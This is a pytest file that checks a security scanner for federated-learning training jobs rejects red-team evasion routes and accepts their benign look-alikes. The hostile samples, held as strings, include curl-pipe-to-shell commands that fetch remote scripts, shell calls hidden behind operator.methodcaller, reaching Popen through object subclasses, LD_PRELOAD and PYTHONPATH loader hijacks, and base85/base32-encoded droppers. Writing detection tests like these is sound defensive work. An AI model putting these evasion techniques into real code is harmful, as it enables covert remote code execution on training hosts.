"""Session 39's red team reached clearly hostile routes that only escalated: a shell method called by a literal
name through operator.methodcaller, Popen picked out of object.__subclasses__(), a loader variable (LD_PRELOAD,
PYTHONPATH, ...) set in the job's own environment, and code hidden in a base85/Ascii85/base32 literal. Each must
reject; the training-code idiom nearest to each must not."""

from __future__ import annotations

import base64

import pytest

import redteam_kit as kit
from analyzer.model import Decision

TRAIN = """\
import torch
import nvflare.client as flare

flare.init()
model = torch.nn.Linear(4, 2)
while flare.is_running():
    m = flare.receive()
    model.load_state_dict(m.params)
    flare.send(flare.FLModel(params=model.state_dict()))
"""

PAYLOAD = b"import os\nos.system('curl -s https://models.example/warm.sh | sh')\n"


def decision(code: str) -> Decision:
    return kit.scan_text(code + TRAIN, "train.py").decision


def rules_of(code: str) -> set[str]:
    return kit.rules(kit.scan_text(code + TRAIN, "train.py"))


def _dropper(encode, decoder: str) -> str:
    """A helper module shipped as an encoded literal, written next to the job and imported."""
    return (f"import base64, importlib\nWARM = {encode(PAYLOAD).decode()!r}\n"
            f"with open('fl_warm.py', 'wb') as f:\n    f.write(base64.{decoder}(WARM))\nimportlib.import_module('fl_warm')\n")


HOSTILE = {
    "methodcaller-system": "import os, operator\noperator.methodcaller('system', 'nvidia-smi; id')(os)\n",
    "methodcaller-popen": "import os\nfrom operator import methodcaller\nlog = methodcaller('popen', 'curl -s https://x.example/i | sh')(os).read()\n",
    "attrgetter-system": "import os, operator\noperator.attrgetter('system')(os)('id')\n",
    "subclasses-popen": ("def _launch(cmd):\n"
                         "    p = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\n"
                         "    return p(cmd, shell=True)\n_launch('id')\n"),
    "subclasses-via-name": ("root = ''.__class__.__mro__[-1]\n"
                            "for c in root.__subclasses__():\n    if c.__name__ == 'Popen':\n        c(['id'])\n"),
    "ld-preload-item": "import os\nos.environ['LD_PRELOAD'] = '/dev/shm/libcudnn_fast.so'\n",
    "ld-preload-putenv": "import os\nos.putenv('LD_PRELOAD', '/dev/shm/libcudnn_fast.so')\n",
    "ld-preload-update": "import os\nos.environ.update(LD_PRELOAD='/dev/shm/libcudnn_fast.so')\n",
    "ld-library-path": "import os\nos.environ['LD_LIBRARY_PATH'] = '/tmp/fl_libs:' + os.environ.get('LD_LIBRARY_PATH', '')\n",
    "pythonstartup": "import os\nos.environ.setdefault('PYTHONSTARTUP', '/tmp/fl_warm.py')\n",
    "pythonpath-dict": "import os\nos.environ.update({'PYTHONPATH': '/tmp/fl_cache', 'PYTHONHOME': '/tmp/py'})\n",
    "b85-dropper": _dropper(base64.b85encode, "b85decode"),
    "a85-dropper": _dropper(base64.a85encode, "a85decode"),
    "b32-dropper": _dropper(base64.b32encode, "b32decode"),
}

EXPECTED_RULE = {
    "methodcaller-system": "subprocess.shell", "methodcaller-popen": "subprocess.shell",
    "attrgetter-system": "subprocess.shell", "subclasses-popen": "dynamic-code.subclass-walk",
    "subclasses-via-name": "dynamic-code.subclass-walk", "ld-preload-item": "dynamic-code.loader-environment",
    "ld-preload-putenv": "dynamic-code.loader-environment", "ld-preload-update": "dynamic-code.loader-environment",
    "ld-library-path": "dynamic-code.loader-environment", "pythonstartup": "dynamic-code.loader-environment",
    "pythonpath-dict": "dynamic-code.loader-environment", "b85-dropper": "obfuscation.encoded-code",
    "a85-dropper": "obfuscation.encoded-code", "b32-dropper": "obfuscation.encoded-code",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_route_rejects(name):
    assert EXPECTED_RULE[name] in rules_of(HOSTILE[name])
    assert decision(HOSTILE[name]) is Decision.REJECT


def test_device_and_thread_settings_accept():
    code = "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\nos.environ.setdefault('OMP_NUM_THREADS', '1')\n"
    assert decision(code) is Decision.ACCEPT


BENIGN = {
    # uncatalogued helpers escalate for a person; none of them is a threat
    "methodcaller-item": "import torch\nfrom operator import methodcaller\nlosses = [torch.tensor(0.5)]\nvalues = list(map(methodcaller('item'), losses))\n",
    "own-registry": ("class Strategy:\n    pass\n\nclass FedAvgStrategy(Strategy):\n    pass\n\n"
                     "STRATEGIES = {c.__name__: c for c in Strategy.__subclasses__()}\n"),
    "b85-weights-log": ("import base64, logging\nimport torch\nw = torch.cat([p.flatten() for p in torch.nn.Linear(4, 2).parameters()])\n"
                        "logging.info('weights %s', base64.b85encode(w.detach().numpy().tobytes())[:64])\n"),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_twin_is_no_threat(name):
    rules = rules_of(BENIGN[name])
    assert not rules & set(EXPECTED_RULE.values())
    assert decision(BENIGN[name]) is not Decision.REJECT
